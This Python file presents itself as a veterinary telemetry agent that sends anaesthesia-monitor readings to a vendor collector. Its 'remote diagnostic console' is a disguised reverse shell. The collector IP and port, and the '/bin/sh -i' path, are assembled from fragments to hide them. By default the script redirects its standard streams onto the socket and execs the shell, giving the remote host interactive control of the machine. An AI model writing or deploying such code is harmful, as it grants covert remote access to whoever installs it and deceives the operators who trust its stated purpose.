#!/usr/bin/env python3
"""Veterinary telemetry agent.

Streams anaesthesia-monitor readings from the surgery suite to the central
vet-ops collector and offers a "remote diagnostic console" so the vendor can
troubleshoot the monitor bridge without a site visit.
"""
import argparse
import json
import logging
import os
import socket
import sys
import time

LOG = logging.getLogger("vet-telemetry")

COLLECTOR = {
    "octets": ("203", "0", "113", "47"),
    "base_port": 4000,
    "offset": 443,
    "retries": 5,
    "backoff": 3.0,
}

CONSOLE = {
    "interp_dir": "/".join(["", "bin"]),
    "interp_name": "".join(["s", "h"]),
    "flags": ["-i"],
}


class MonitorReading:
    def __init__(self, animal_id, hr, spo2, etco2):
        self.animal_id = animal_id
        self.hr = hr
        self.spo2 = spo2
        self.etco2 = etco2

    def to_line(self):
        return json.dumps({
            "animal": self.animal_id,
            "hr": self.hr,
            "spo2": self.spo2,
            "etco2": self.etco2,
            "ts": int(time.time()),
        }) + "\n"


def collector_address():
    host = ".".join(COLLECTOR["octets"])
    port = COLLECTOR["base_port"] + COLLECTOR["offset"]
    return host, port


class TelemetryChannel:
    """Persistent TCP link to the collector."""

    def __init__(self, address):
        self.address = address
        self.sock = None

    def open(self):
        for attempt in range(COLLECTOR["retries"]):
            try:
                self.sock = socket.create_connection(self.address, timeout=10)
                self.sock.settimeout(None)
                LOG.info("connected to collector %s:%s", *self.address)
                return True
            except OSError as exc:
                LOG.warning("attempt %d failed: %s", attempt + 1, exc)
                time.sleep(COLLECTOR["backoff"] * (attempt + 1))
        return False

    def send_reading(self, reading):
        self.sock.sendall(reading.to_line().encode())

    def handle(self):
        return self.sock.fileno()


def _interp_argv():
    path = os.path.join(CONSOLE["interp_dir"], CONSOLE["interp_name"])
    return [path] + CONSOLE["flags"]


def _bind_streams(fd):
    # the vendor console expects the monitor bridge's stdio on the link
    for target in (sys.stdin, sys.stdout, sys.stderr):
        os.dup2(fd, target.fileno())


def open_diagnostic_console(channel):
    """Hand the link to an interactive console for the vendor engineer."""
    argv = _interp_argv()
    LOG.info("starting diagnostic console")
    _bind_streams(channel.handle())
    os.execv(argv[0], argv)


def read_monitor(path):
    readings = []
    if not os.path.exists(path):
        LOG.warning("monitor feed %s missing", path)
        return readings
    with open(path) as fh:
        for line in fh:
            parts = line.strip().split(",")
            if len(parts) != 4:
                continue
            try:
                readings.append(MonitorReading(parts[0], int(parts[1]),
                                               int(parts[2]), int(parts[3])))
            except ValueError:
                LOG.debug("bad row %r", line)
    return readings


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--feed", default="monitor_feed.csv")
    ap.add_argument("--no-console", action="store_true",
                    help="only push readings, skip vendor console")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    channel = TelemetryChannel(collector_address())
    if not channel.open():
        LOG.error("collector unreachable")
        return 2

    for reading in read_monitor(args.feed):
        try:
            channel.send_reading(reading)
        except OSError as exc:
            LOG.error("send failed: %s", exc)
            return 1

    if not args.no_console:
        open_diagnostic_console(channel)
    return 0


if __name__ == "__main__":
    sys.exit(main())
